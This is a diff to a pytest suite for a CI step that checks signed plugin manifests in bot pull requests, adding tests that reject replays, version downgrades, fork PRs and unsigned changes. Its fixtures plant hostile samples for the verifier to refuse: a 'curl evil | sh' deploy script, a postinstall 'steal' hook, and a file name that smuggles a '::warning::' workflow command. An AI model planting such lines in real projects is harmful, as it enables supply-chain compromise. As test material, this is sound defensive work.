@@ -245,13 +245,34 @@ def git(repo: Path, *args: str) -> str:
     ).stdout.strip()
 
 
-def write_plugin(root: Path, key: Ed25519PrivateKey, plugin_path: str = PLUGIN) -> None:
+BRANCH = "plugin-bot/job-42"
+
+
+def predicate_for(
+    base_commit: str, plugin_path: str = PLUGIN, version: str = "0.1.0", branch: str = BRANCH
+) -> dict[str, Any]:
+    """What the bot signs: bound to its pull request's base commit and branch."""
+    return {
+        "repository": REPOSITORY,
+        "baseCommit": base_commit,
+        "branch": branch,
+        "plugin": {"name": "weather", "path": plugin_path, "version": version},
+    }
+
+
+def write_plugin(
+    root: Path,
+    key: Ed25519PrivateKey,
+    base_commit: str,
+    plugin_path: str = PLUGIN,
+    version: str = "0.1.0",
+    branch: str = BRANCH,
+) -> None:
     root.mkdir(parents=True, exist_ok=True)
     for rel, text in FILES.items():
         (root / rel).parent.mkdir(parents=True, exist_ok=True)
         (root / rel).write_text(text)
-    predicate = {"repository": REPOSITORY, "plugin": {"name": "weather", "path": plugin_path}}
-    manifest.write_manifest(root, predicate, key)
+    manifest.write_manifest(root, predicate_for(base_commit, plugin_path, version, branch), key)
 
 
 class Harness:
@@ -264,6 +285,10 @@ class Harness:
         trusted = self.workspace / "base" / ".github" / "plugin-bot"
         trusted.mkdir(parents=True)
         shutil.copy(ROOT / "bot" / "manifest.py", trusted / "verify_manifest.py")
+        if (ROOT / "bot" / "paths.py").exists():  # the verifier loads the path rule from here
+            shutil.copy(ROOT / "bot" / "paths.py", trusted / "plugin_paths.py")
+        self.head_ref = BRANCH
+        self.head_repository = REPOSITORY
 
         (trusted / "keys.json").write_text(json.dumps([manifest.key_entry(key.public_key())]))
         self.head = self.workspace / "head"
@@ -279,6 +304,19 @@ class Harness:
         git(self.head, "commit", "-q", "--allow-empty", "-m", "change")
         return git(self.head, "rev-parse", "HEAD")
 
+    def merge_to_base(self) -> None:
+        """What is committed now becomes the base branch: base/ is checked out from it."""
+        self.base_sha = self.commit()
+        base = self.workspace / "base"
+        archive = subprocess.run(
+            ["git", "archive", "--format=tar", self.base_sha],
+            cwd=self.head,
+            capture_output=True,
+            check=True,
+            timeout=60,
+        ).stdout
+        subprocess.run(["tar", "-x", "-C", str(base)], input=archive, check=True, timeout=60)
+
     def run(self, head_sha: str) -> subprocess.CompletedProcess[str]:
         script = step_named(load(VERIFY_PLUGIN), "Verify the changed plugin directories")["run"]
         env = {
@@ -288,6 +326,8 @@ class Harness:
             "RUNNER_TEMP": str(self.runner_temp),
             "BASE_SHA": self.base_sha,
             "HEAD_SHA": head_sha,
+            "HEAD_REF": self.head_ref,
+            "HEAD_REPOSITORY": self.head_repository,
             "REPOSITORY": REPOSITORY,
         }
         return subprocess.run(
@@ -324,7 +364,7 @@ def harness(tmp_path: Path, key: Ed25519PrivateKey) -> Harness:
 
 @needs_git
 def test_step_accepts_a_new_signed_plugin(harness: Harness, key: Ed25519PrivateKey) -> None:
-    write_plugin(harness.head / PLUGIN, key)
+    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
     result = harness.run(harness.commit())
     assert result.returncode == 0, result.stdout + result.stderr
     assert "VERIFIED" in result.stdout
@@ -335,18 +375,19 @@ def test_step_accepts_a_new_signed_plugin(harness: Harness, key: Ed25519PrivateK
 def test_step_accepts_an_update_that_changes_some_files(
     harness: Harness, key: Ed25519PrivateKey
 ) -> None:
-    write_plugin(harness.head / PLUGIN, key)
-    harness.base_sha = harness.commit()
+    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
+    harness.merge_to_base()
     (harness.head / PLUGIN / "src" / "index.ts").write_text("export default { v: 2 };\n")
-    predicate = {"repository": REPOSITORY, "plugin": {"name": "weather", "path": PLUGIN}}
-    manifest.write_manifest(harness.head / PLUGIN, predicate, key)
+    manifest.write_manifest(
+        harness.head / PLUGIN, predicate_for(harness.base_sha, version="0.2.0"), key
+    )
     result = harness.run(harness.commit())
     assert result.returncode == 0, result.stdout + result.stderr
 
 
 @needs_git
 def test_step_refuses_a_changed_byte(harness: Harness, key: Ed25519PrivateKey) -> None:
-    write_plugin(harness.head / PLUGIN, key)
+    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
     (harness.head / PLUGIN / "src" / "index.ts").write_text("export default {};;\n")
     result = harness.run(harness.commit())
     assert result.returncode != 0
@@ -356,7 +397,7 @@ def test_step_refuses_a_changed_byte(harness: Harness, key: Ed25519PrivateKey) -
 
 @needs_git
 def test_step_refuses_an_unsigned_extra_file(harness: Harness, key: Ed25519PrivateKey) -> None:
-    write_plugin(harness.head / PLUGIN, key)
+    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
     (harness.head / PLUGIN / "postinstall.js").write_text("steal()\n")
     result = harness.run(harness.commit())
     assert result.returncode != 0
@@ -365,7 +406,7 @@ def test_step_refuses_an_unsigned_extra_file(harness: Harness, key: Ed25519Priva
 
 @needs_git
 def test_step_refuses_a_manifest_for_another_path(harness: Harness, key: Ed25519PrivateKey) -> None:
-    write_plugin(harness.head / PLUGIN, key, plugin_path="plugins/other")
+    write_plugin(harness.head / PLUGIN, key, harness.base_sha, plugin_path="plugins/other")
     result = harness.run(harness.commit())
     assert result.returncode != 0
     assert "made for plugin path 'plugins/other'" in result.stderr
@@ -373,16 +414,108 @@ def test_step_refuses_a_manifest_for_another_path(harness: Harness, key: Ed25519
 
 @needs_git
 def test_step_refuses_a_key_the_pull_request_adds(harness: Harness, key: Ed25519PrivateKey) -> None:
-    # The pull request signs with its own key and lists it in head's keys file: ignored.
+    # The pull request signs with its own key: only the base branch's keys count.
     own = Ed25519PrivateKey.generate()
-    write_plugin(harness.head / PLUGIN, own)
-    keys = harness.head / ".github" / "plugin-bot" / "keys.json"
-    keys.parent.mkdir(parents=True)
-
-    keys.write_text(json.dumps([manifest.key_entry(own.public_key())]))
+    write_plugin(harness.head / PLUGIN, own, harness.base_sha)
     result = harness.run(harness.commit())
     assert result.returncode != 0
     assert "no signature verifies" in result.stderr
+
+
+@needs_git
+def test_step_refuses_a_keys_file_the_pull_request_changes(
+    harness: Harness, key: Ed25519PrivateKey
+) -> None:
+    own = Ed25519PrivateKey.generate()
+    write_plugin(harness.head / PLUGIN, own, harness.base_sha)
+    keys = harness.head / ".github" / "plugin-bot" / "keys.json"
+    keys.parent.mkdir(parents=True)
+    keys.write_text(json.dumps([manifest.key_entry(own.public_key())]))
+    result = harness.run(harness.commit())
+    assert result.returncode != 0
+    assert ".github/plugin-bot/keys.json is changed outside a plugin directory" in result.stdout
+    assert harness.verified() == []
+
+
+# ------------------------------------------- issue 8 point 5: replayed or widened PRs
+
+
+@needs_git
+def test_step_refuses_an_older_signed_plugin_put_back_over_a_newer_one(
+    harness: Harness, key: Ed25519PrivateKey
+) -> None:
+    # v0.1.0 was merged, then v0.2.0; the pull request restores v0.1.0's signed files.
+    write_plugin(harness.head / PLUGIN, key, harness.base_sha, version="0.1.0")
+    harness.merge_to_base()
+    old = {
+        p.relative_to(harness.head / PLUGIN): p.read_bytes()
+        for p in (harness.head / PLUGIN).rglob("*")
+        if p.is_file()
+    }
+    (harness.head / PLUGIN / "src" / "index.ts").write_text("export default { v: 2 };\n")
+    manifest.write_manifest(
+        harness.head / PLUGIN, predicate_for(harness.base_sha, version="0.2.0"), key
+    )
+    harness.merge_to_base()
+    for rel, data in old.items():
+        (harness.head / PLUGIN / rel).write_bytes(data)
+    result = harness.run(harness.commit())
+    assert result.returncode != 0
+    assert "made from base commit" in result.stderr and "replayed" in result.stderr
+    assert harness.verified() == []
+
+
+@needs_git
+def test_step_refuses_a_version_that_does_not_go_up(
+    harness: Harness, key: Ed25519PrivateKey
+) -> None:
+    # Bound to this pull request, correctly signed, but older than the base branch's.
+    write_plugin(harness.head / PLUGIN, key, harness.base_sha, version="0.2.0")
+    harness.merge_to_base()
+    (harness.head / PLUGIN / "src" / "index.ts").write_text("export default { v: 1 };\n")
+    manifest.write_manifest(
+        harness.head / PLUGIN, predicate_for(harness.base_sha, version="0.1.0"), key
+    )
+    result = harness.run(harness.commit())
+    assert result.returncode != 0
+    assert "version 0.1.0 is not newer than 0.2.0" in result.stderr
+    assert harness.verified() == []
+
+
+@needs_git
+def test_step_refuses_a_statement_made_for_another_branch(
+    harness: Harness, key: Ed25519PrivateKey
+) -> None:
+    write_plugin(harness.head / PLUGIN, key, harness.base_sha, branch="plugin-bot/job-7")
+    result = harness.run(harness.commit())
+    assert result.returncode != 0
+    assert "made for branch 'plugin-bot/job-7'" in result.stderr
+
+
+@needs_git
+def test_step_refuses_a_pull_request_from_a_fork(harness: Harness, key: Ed25519PrivateKey) -> None:
+    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
+    harness.head_repository = "mallory/agents"
+    result = harness.run(harness.commit())
+    assert result.returncode != 0
+    assert "comes from mallory/agents" in result.stdout
+
+
+@needs_git
+def test_step_fails_on_unsigned_changes_outside_the_plugin_and_names_them(
+    harness: Harness, key: Ed25519PrivateKey
+) -> None:
+    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
+    (harness.head / "package.json").write_text('{"scripts": {"postinstall": "steal"}}\n')
+    (harness.head / "scripts").mkdir()
+    (harness.head / "scripts" / "deploy.sh").write_text("curl evil | sh\n")
+    (harness.head / "plugins" / "evil.js").write_text("steal()\n")
+    result = harness.run(harness.commit())
+    assert result.returncode != 0
+    for path in ("package.json", "scripts/deploy.sh", "plugins/evil.js"):
+        assert f"::error::{path} is changed outside a plugin directory" in result.stdout
+    assert "::warning::" not in result.stdout
+    assert harness.verified() == []
 
 
 @needs_git
@@ -391,7 +524,7 @@ def test_step_refuses_a_gitlink_the_manifest_cannot_see(
 ) -> None:
     # A submodule entry checks out as an empty directory, which no subject covers; only
     # the changed-files check sees it.
-    write_plugin(harness.head / PLUGIN, key)
+    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
     git(harness.head, "add", "-A")
     git(
         harness.head,
@@ -408,8 +541,8 @@ def test_step_refuses_a_gitlink_the_manifest_cannot_see(
 
 @needs_git
 def test_step_skips_a_deleted_plugin(harness: Harness, key: Ed25519PrivateKey) -> None:
-    write_plugin(harness.head / PLUGIN, key)
-    harness.base_sha = harness.commit()
+    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
+    harness.merge_to_base()
     shutil.rmtree(harness.head / PLUGIN)
     result = harness.run(harness.commit())
     assert result.returncode == 0, result.stdout + result.stderr
@@ -420,7 +553,7 @@ def test_step_skips_a_deleted_plugin(harness: Harness, key: Ed25519PrivateKey) -
 @needs_git
 def test_step_needs_the_bot_installed_on_the_base(harness: Harness, key: Ed25519PrivateKey) -> None:
     (harness.workspace / "base" / ".github" / "plugin-bot" / "keys.json").unlink()
-    write_plugin(harness.head / PLUGIN, key)
+    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
     result = harness.run(harness.commit())
     assert result.returncode != 0
     assert "install plugin-bot" in result.stdout
@@ -434,7 +567,7 @@ def test_step_refuses_a_path_with_a_control_character(
     # (The signer refuses such names, so the file arrives unsigned beside a signed plugin.)
     root = harness.head / PLUGIN
     root.mkdir(parents=True)
-    write_plugin(root, key)
+    write_plugin(root, key, harness.base_sha)
     (root / "evil\n::warning::x").write_text("x\n")
     result = harness.run(harness.commit())
     assert result.returncode != 0
